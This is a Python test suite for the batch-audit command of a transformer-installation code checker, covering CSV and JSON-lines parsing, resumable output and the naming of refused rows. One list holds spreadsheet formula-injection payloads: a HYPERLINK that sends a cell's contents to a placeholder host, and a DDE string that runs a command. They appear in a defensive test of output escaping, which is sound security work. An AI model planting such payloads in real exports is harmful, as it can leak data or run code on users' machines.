"""A fleet of jobs in one file: one line each, bad ones named, resumable, as JSON lines or CSV."""

import csv
import io
import json
import sys
from pathlib import Path

import pytest
from hypothesis import given, reject
from hypothesis import strategies as st

from engine import Result, evaluate
from engine.__main__ import main
from engine.evaluation.order import RULES
from engine.files.refusals import Refusal, job_from_data
from engine.fleet.audit_line import audit_line, summary
from engine.fleet.kept_verdicts import KeptVerdicts, plate_of, row_of_facts
from engine.fleet.lines import LONGEST_LINE, guarded, job_from_row
from engine.judging.verdicts import confirm
from engine.wizard.questions import catalogue
from tests.engine.checked import verdicts
from tests.engine.examples import examples
from tests.engine.jobs import (
    BUILDERS,
    FACTS,
    NEEDED,
    SETTINGS,
    WORDS,
    Data,
    get,
    job,
    nameplate,
    sound,
    with_facts,
)
from tests.engine.strategies import JOBS, VALUES
from tests.engine.test_contradictions import CASES


@pytest.fixture
def fleet(tmp_path: Path) -> Path:
    path = tmp_path / "jobs.jsonl"
    path.write_text(
        "\n".join(json.dumps(build()) for build in BUILDERS.values()) + "\n", encoding="utf-8"
    )
    return path


def _lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_the_summary_holds_the_verdicts_of_the_whole_answer() -> None:
    short = summary(json.dumps(sound()), 7)
    whole = verdicts(job(sound()))
    assert short["line"] == 7
    assert short["name"] == "T-1"
    for verdict in ("does_not_meet", "meets"):
        assert all(whole[id_] == verdict for id_ in short[verdict])
    assert short["overall"] == "no_conflict_found"


@examples(400)
@given(JOBS)
def test_a_kept_verdict_is_the_verdict_on_the_whole_job(data: Data) -> None:
    try:
        _agree(data)
    except Refusal:
        reject()


@pytest.mark.parametrize("id_", sorted(CASES))
def test_kept_verdicts_hold_where_facts_contradict_each_other(id_: str) -> None:
    # Without the contradiction first, so that there are verdicts to be kept.
    summary(json.dumps(sound()), 1)
    _agree(CASES[id_])


GROUNDED_BY_CHOICE = (
    ("sound", 480, "wye_4_wire"),
    ("parallel sets", 480, "wye_4_wire"),
    ("single phase", 480, "single_phase_3_wire"),
)


@pytest.mark.parametrize(("name", "volts", "system"), GROUNDED_BY_CHOICE)
@pytest.mark.parametrize("present", [True, False, None])
@pytest.mark.parametrize("size", ["1/0", None])
@pytest.mark.parametrize("location", ["first_disconnect", "source", "none", "both", None])
def test_kept_verdicts_hold_where_the_grounded_conductor_decides(
    name: str, volts: int, system: str, present: bool | None, size: str | None, location: str | None
) -> None:
    """250.20(B)(2), (3): above 150 V to ground it is the conductor that is run that asks for a grounded system."""
    data = with_facts(
        BUILDERS[name](),
        transformer__secondary_volts=volts,
        transformer__secondary_system=system,
        transformer__nameplate_secondary_amperes=None,
        bonding__system_bonding_jumper__location=location,
        secondary__grounded_conductor__present=present,
        secondary__grounded_conductor__size=size,
    )
    _agree(data)


@pytest.mark.parametrize("purpose", ["installation", "replacement", "grounding"])
def test_kept_verdicts_are_those_of_the_visit(purpose: str) -> None:
    """A new transformer's lugs are supposed where nobody read them; those of a replacement are read."""
    for visit in ("installation", purpose):
        data = with_facts(
            sound(),
            purpose=visit,
            transformer__primary_terminal_celsius=None,
            transformer__secondary_terminal_celsius=None,
        )
        _agree(data)


def _agree(data: Data) -> None:
    """The summary of a job, from verdicts that may be kept, says what the whole answer says."""
    read, _ = job_from_data(data)
    short, whole = summary(json.dumps(data), 1), evaluate(read, compare_editions=False)
    for verdict in ("does_not_meet", "cannot_tell", "meets"):
        counted = [
            check.id
            for check in whole.checks
            if check.verdict == verdict and (check.asked or verdict == "does_not_meet")
        ]
        assert short[verdict] == counted
    assert short["overall"] == whole.overall.verdict
    assert short["contradictions"] == [clash.id for clash in whole.contradictions]


def test_a_fact_that_a_rule_reads_and_does_not_ask_for_is_unknown_to_it() -> None:
    rule = next(rule for rule in RULES if rule.id == "anchoring")

    def reads_more(site):
        return confirm(
            site,
            site.need(lambda job: job.observations.anchored),
            required="",
            found="",
            reason="",
            otherwise="",
        )

    with_it = job(sound(), observations__anchored=True)
    plate, row = plate_of(with_it, frozenset()), row_of_facts().read(with_it)
    assert KeptVerdicts(rule._replace(judge=reads_more)).outcome(plate, row).verdict == "meets"
    without = rule._replace(judge=reads_more, asks=("transformer.location",))
    assert KeptVerdicts(without).outcome(plate, row).verdict == "cannot_tell"
    asks_nothing = rule._replace(judge=reads_more, asks=())
    assert KeptVerdicts(asks_nothing).outcome(plate, row).verdict == "cannot_tell"


@pytest.mark.parametrize("workers", ["1", "2"])
def test_lines_keep_their_order_whoever_works(fleet, tmp_path, workers) -> None:
    out = tmp_path / "out.jsonl"
    assert main(["audit", str(fleet), "-o", str(out), "--workers", workers]) == 0
    assert [line["line"] for line in _lines(out)] == list(range(1, len(BUILDERS) + 1))


def test_a_bad_line_is_named_and_the_others_answered(tmp_path, capsys) -> None:
    path = tmp_path / "jobs.jsonl"
    bad = [json.dumps(nameplate(0, 3, 480, 208)), "not json", "x" * (LONGEST_LINE + 10)]
    path.write_text(
        "\n".join([json.dumps(sound()), *bad, "", json.dumps(sound())]), encoding="utf-8"
    )
    assert main(["audit", str(path), "--workers", "1"]) == 0
    out, err = capsys.readouterr()
    assert [json.loads(line)["line"] for line in out.splitlines()] == [1, 6]
    assert "line 2: transformer.kva: 0 cannot be a reading here" in err
    assert "line 3: file: not JSON" in err
    assert "line 4: " in err
    assert "2 jobs evaluated, 3 lines refused" in err


def test_whole_results_on_request(fleet, capsys) -> None:
    assert main(["audit", str(fleet), "--full", "--workers", "1"]) == 0
    for number, line in enumerate(capsys.readouterr().out.splitlines(), 1):
        row = json.loads(line)
        assert row.pop("line") == number
        assert Result.model_validate(row).format == "platepath.result/1"
    assert json.loads(audit_line(json.dumps(sound()), 1, full=True).text)["edition"] == 2023
    assert audit_line("{", 3, full=True).refused


def test_it_goes_on_where_it_stopped(fleet, tmp_path, capsys) -> None:
    out = tmp_path / "out.jsonl"
    assert main(["audit", str(fleet), "-o", str(out), "--workers", "1"]) == 0
    whole = out.read_text(encoding="utf-8")
    lines = whole.splitlines(keepends=True)
    out.write_text("".join(lines[:2]) + lines[2][:20], encoding="utf-8")
    capsys.readouterr()
    assert main(["audit", str(fleet), "-o", str(out), "--workers", "1", "--resume"]) == 0
    assert out.read_text(encoding="utf-8") == whole
    assert "from line 3" in capsys.readouterr().err


def test_nothing_done_yet_is_begun_at_the_first_line(fleet, tmp_path, capsys) -> None:
    for name, kept in (
        ("new", None),
        ("empty", b""),
        ("half", b'{"line":1,"na'),
        ("zeros", b"\0\0"),
    ):
        out = tmp_path / f"{name}.jsonl"
        if kept is not None:
            out.write_bytes(kept)
        assert main(["audit", str(fleet), "-o", str(out), "--workers", "1", "--resume"]) == 0
        assert [line["line"] for line in _lines(out)] == list(range(1, len(BUILDERS) + 1))
        assert "from line" not in capsys.readouterr().err


def test_csv_out_has_a_head_and_a_row_each(fleet, tmp_path) -> None:
    out = tmp_path / "out.csv"
    assert main(["audit", str(fleet), "-o", str(out), "--workers", "1"]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == len(BUILDERS)
    assert rows[0]["overall"] == "no_conflict_found"
    assert "system_bonding_jumper" in rows[0]["meets"].split()


def _as_cell(value) -> str:
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, list):
        return "; ".join(map(str, value)) or "none"
    return str(value)


@pytest.mark.parametrize("name", sorted(BUILDERS))
def test_a_row_of_csv_is_the_same_job(name: str) -> None:
    data = BUILDERS[name]()
    paths = [q["path"] for q in catalogue() if get(data, q["path"]) is not None]
    read = job_from_data(job_from_row({path: _as_cell(get(data, path)) for path in paths}))[0]
    again = json.loads(read.model_dump_json(exclude_unset=True))
    for path in paths:
        assert get(again, path) == get(data, path), path


HEAD = "name,transformer.kva,transformer.phases,transformer.primary_volts,transformer.secondary_volts,primary.device.rating"


def _audited(path: Path, text: str | bytes, capsys) -> tuple[dict[int, str], dict[int, str]]:
    """Names and refusals by line, of a sheet under the usual columns."""
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    assert main(["audit", str(path), "--workers", "1"]) == 0
    out, err = capsys.readouterr()
    refused = [line.split(": ", 1) for line in err.splitlines() if line.startswith("line ")]
    named = {row["line"]: row["name"] for row in map(json.loads, out.splitlines())}
    assert len(named) == out.count("\n")
    assert len(refused) == err.count("\n") - 1
    return named, {int(place.removeprefix("line ")): said for place, said in refused}


@pytest.fixture
def sheet(tmp_path: Path, capsys):
    return lambda text: _audited(tmp_path / "jobs.csv", text, capsys)


def test_csv_in_with_empty_cells_and_rows_of_another_length(sheet) -> None:
    rows = ["T-1,75,3,480,208,", "T-2,75,3,480,208,125,spare", "T-3,seventy,3,480,208,125"]
    more = [",,,,,", "", "T-7,75,3,480,208", "T-8,75,3,480,208,125,, "]
    named, refused = sheet("\n".join([HEAD, *rows, *more]))
    assert named == {2: "T-1", 7: "T-7", 8: "T-8"}
    assert refused.keys() == {3, 4}
    assert refused[3].startswith("row: 7 cells for 6 columns")
    assert refused[4].startswith('transformer.kva: "seventy" is not a number')


GOOD = "T-{},75,3,480,208,125\n"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_rows_are_named_by_the_line_on_which_they_begin(sheet, end) -> None:
    rows = [
        HEAD,
        '"T-2,',
        '""left""",75,3,480,208,125',
        "",
        GOOD.format(5).strip(),
        '"T',
        "",
        '6",75,3,480,208,many',
        GOOD.format(9).strip(),
    ]
    named, refused = sheet("\ufeff" + end.join(rows) + end)
    assert named == {2: f'T-2,{end}"left"', 5: "T-5", 9: "T-9"}
    assert refused.keys() == {6}
    assert refused[6].startswith('primary.device.rating: "many" is not a number')


@pytest.mark.parametrize(
    "bad",
    [
        '"T-3,75,3,480,208,125\n',
        '"T-3,75,3,480,208,125"\n',
        'T-3,75,"3,480,208,125\n',
        'T-3,75,3,480,208,"125\n',
        '"T-3"left,75,3,480,208,125\n',
    ],
)
def test_a_quote_that_is_not_closed_costs_its_own_row_only(sheet, bad) -> None:
    for after in ("", '"T, 5",75,3,480,208,125\n', 'T-5",75,3,480,208,"125"\n'):
        rows = HEAD + "\n" + GOOD.format(2) + bad + GOOD.format(4) + after
        named, refused = sheet(rows)
        assert refused.keys() == {3}
        assert named.keys() == {2, 4} | ({5} if after else set())
        assert named[4] == "T-4"


def test_a_note_over_several_lines_is_one_cell(tmp_path, capsys) -> None:
    note = 'covers "closed"\nseal 1, seal 2, door, lid, cover, lamp, sign\nT-9, kVA 75, 3, 480, 208, 125, no row\nend'
    path = tmp_path / "jobs.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows(
            [[*HEAD.split(","), "notes"], ["T-2", 75, 3, 480, 208, 125, note]]
        )
    assert main(["audit", str(path), "--workers", "1"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["name"] == "T-2"
    assert "0 lines refused" in err


def test_many_quotes_that_are_not_closed_cost_their_own_rows_only(sheet) -> None:
    text = HEAD + "\n" + ('"bad\n' + GOOD.format("x")) * 1000
    named, refused = sheet(text)
    assert refused.keys() == set(range(2, 2002, 2))
    assert named.keys() == set(range(3, 2003, 2))


@pytest.mark.parametrize("size", [131_073, LONGEST_LINE + 10])
def test_a_cell_or_a_line_that_is_too_long_costs_its_own_row_only(sheet, size) -> None:
    for bad in ("x" * size, '"' + "x" * size + '"', '"' + "x\n" * min(size // 2, 500) + '"'):
        lines = bad.count("\n") + 1
        named, refused = sheet(HEAD + "\n" + bad + ",75,3,480,208,125\n" + GOOD.format("last"))
        assert named == {2 + lines: "T-last"}
        assert 2 in refused
        if lines == 1:
            assert "longer than" in refused[2] or "more than 131,072 characters" in refused[2]


def test_letters_that_are_not_utf_8_cost_their_own_row_only(sheet) -> None:
    rows = [
        *map(str.encode, (HEAD, "Tür,75,3,480,208,125")),
        "Tür,75,3,480,208,125".encode("latin-1"),
    ]
    named, refused = sheet(b"\n".join([*rows, *map(str.encode, ("T-4,75,3,480,208,125",))]))
    assert named == {2: "Tür", 4: "T-4"}
    assert refused[3].startswith("name: not text in UTF-8")


def test_latin_1_in_json_costs_its_own_line_only(tmp_path, capsys) -> None:
    path = tmp_path / "jobs.jsonl"
    bad = json.dumps(with_facts(sound(), name="Tür"), ensure_ascii=False).encode("latin-1")
    good = json.dumps(sound()).encode()
    path.write_bytes(b"\n".join([good, bad, good]))
    assert main(["audit", str(path), "--workers", "1"]) == 0
    out, err = capsys.readouterr()
    assert [json.loads(line)["line"] for line in out.splitlines()] == [1, 3]
    assert "line 2: file: not text" in err


@pytest.mark.parametrize(
    ("head", "words"),
    [
        ("name,transformer.kva,name", "line 1: column name appears 2 times"),
        ("name,transformer.kva, name ", "line 1: column name appears 2 times"),
        (
            "transformer.kva,transformer",
            "column transformer is the whole that column transformer.kva",
        ),
        (
            "transformer,transformer.kva",
            "column transformer is the whole that column transformer.kva",
        ),
        ('name,"transformer.kva\nT-1,75', "line 1: a quote that is not closed"),
        ("x" * 131_073, "line 1: a cell of more than 131,072 characters"),
        ("a." * 60_000 + "b", "is not a column"),
        ("name;transformer.kva;" * 10, "is not a column"),
        (b"n\xe4me,transformer.kva", "line 1: not text in UTF-8"),
        ("name,transformer.kva".encode("utf-16"), "line 1: not text in UTF-8"),
    ],
)
def test_columns_that_no_row_can_fit_are_said_once(tmp_path, capsys, head, words) -> None:
    path = tmp_path / "jobs.csv"
    path.write_bytes((head if isinstance(head, bytes) else head.encode()) + b"\nT-1,75\nT-2,75\n")
    assert main(["audit", str(path), "--workers", "1"]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.count("\n") == 1
    assert err.startswith(f"{path}, line 1: ")
    assert words in err


def test_a_cell_under_no_name_is_refused_and_an_empty_one_is_none(tmp_path, capsys) -> None:
    head = HEAD.replace("name,", "name,,") + ","
    rows = ["T-2,,75,3,480,208,125,", "T-3,x,75,3,480,208,125,", "T-4,,75,3,480,208,125,x"]
    path = tmp_path / "jobs.csv"
    path.write_text("\n".join([head, *rows]))
    assert main(["audit", str(path), "--workers", "1"]) == 0
    out, err = capsys.readouterr()
    assert [json.loads(line)["name"] for line in out.splitlines()] == ["T-2"]
    assert "line 3: row: a cell without a column name" in err
    assert "line 4: row: a cell without a column name" in err


@pytest.mark.parametrize("text", ["", "\n\n", HEAD, "\ufeff"])
def test_a_sheet_without_rows_has_no_jobs(sheet, text) -> None:
    assert sheet(text) == ({}, {})


FORMULAS = [
    '=HYPERLINK("http://a.invalid/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_the_output_is_a_formula_and_it_reads_back(tmp_path, capsys, text) -> None:
    path, out = tmp_path / "jobs.jsonl", tmp_path / "out.csv"
    path.write_text(json.dumps(with_facts(sound(), name=text, place=text)))
    assert main(["audit", str(path), "-o", str(out), "--workers", "1"]) == 0
    with out.open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    # OWASP, CSV Injection: no cell begins with one of these signs.
    assert not [cell for cell in row.values() if cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝"))]
    assert row["name"] == row["place"] == f"'{text}"
    again = job_from_row({"name": row["name"], "place": row["place"]})
    assert (again["name"], again["place"]) == (text, text)


def test_plain_texts_and_numbers_are_not_guarded() -> None:
    row = {"name": "'T-1'", "place": "Room 5-A", "primary.device.rating": "-5", "notes": "it's"}
    made = job_from_row(row)
    assert (made["name"], made["place"], made["notes"]) == ("'T-1'", "Room 5-A", "it's")
    assert made["primary"]["device"]["rating"] == -5


@given(st.text(max_size=30))
def test_whatever_a_name_is_a_guarded_cell_gives_it_back(text) -> None:
    cell = guarded(text)
    assert cell in (text, f"'{text}")
    assert not cell.lstrip().startswith(tuple("=+-@"))
    if cell.strip() == cell and cell:
        assert job_from_row({"name": cell})["name"] == text


def test_digits_joined_by_a_stroke_are_no_number() -> None:
    assert job_from_row({"transformer.kva": "11_25"})["transformer"]["kva"] == "11_25"


@pytest.mark.parametrize(
    "row",
    [
        {"electrode": "rod", "electrode.used": "rod"},
        {"electrode.used": "rod", "electrode": "rod"},
        {"electrode": "rod", "electrode.used.more": "rod"},
    ],
)
def test_a_column_inside_another_column_is_refused(row) -> None:
    made = job_from_row({**row, "": "x", " name ": " T-1 "})
    assert made["name"] == "T-1"
    assert made["electrode"] == "rod"
    assert "used" not in made
    with pytest.raises(Refusal):
        job_from_data(made)


def test_a_list_of_none_is_looked_and_found_none() -> None:
    assert job_from_row({"electrode.available": "none"})["electrode"]["available"] == []


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["missing.jsonl"], "no such file"),
        (["{fleet}", "-o", "{tmp}/no/such/out.jsonl"], "no such file"),
        (["{fleet}", "-o", "{tmp}/out.csv", "--full"], "--full"),
        (["{fleet}", "-o", "{tmp}/out.csv", "--resume"], "--resume"),
        (["{fleet}", "-o", "{tmp}/out.jsonl", "--resume", "--full"], "--resume"),
    ],
)
def test_what_cannot_be_opened_or_does_not_go_together_is_said(
    fleet, tmp_path, capsys, arguments, words
) -> None:
    filled = [a.format(fleet=fleet, tmp=tmp_path) for a in arguments]
    assert main(["audit", *filled]) == 2
    assert words in capsys.readouterr().err


def test_standard_input_and_a_bar_on_a_terminal(monkeypatch, capsys) -> None:
    class Input:
        buffer = io.BytesIO((json.dumps(sound()) + "\n").encode())

    monkeypatch.setattr(sys, "stdin", Input())
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    assert main(["audit", "-", "--workers", "1"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["line"] == 1
    assert "1 jobs" in err


def test_the_bar_fills_with_the_file(fleet, monkeypatch, capsys) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    assert main(["audit", str(fleet), "--workers", "1"]) == 0
    assert "100%" in capsys.readouterr().err


@pytest.mark.parametrize("path", FACTS)
def test_every_fact_has_a_column(path: str) -> None:
    @examples(30)
    @given(VALUES[path])
    def reads_back(value) -> None:
        made = job_from_row({path: _as_cell(value)})
        assert get(made, path) == value
        assert type(get(made, path)) is type(value) or isinstance(value, float)

    reads_back()


def test_every_question_but_the_settings_and_words_asks_for_a_fact() -> None:
    asked = {question["path"] for question in catalogue()}
    assert len(asked) > 150
    assert asked - set(FACTS) == asked & {*SETTINGS, *NEEDED, *WORDS}
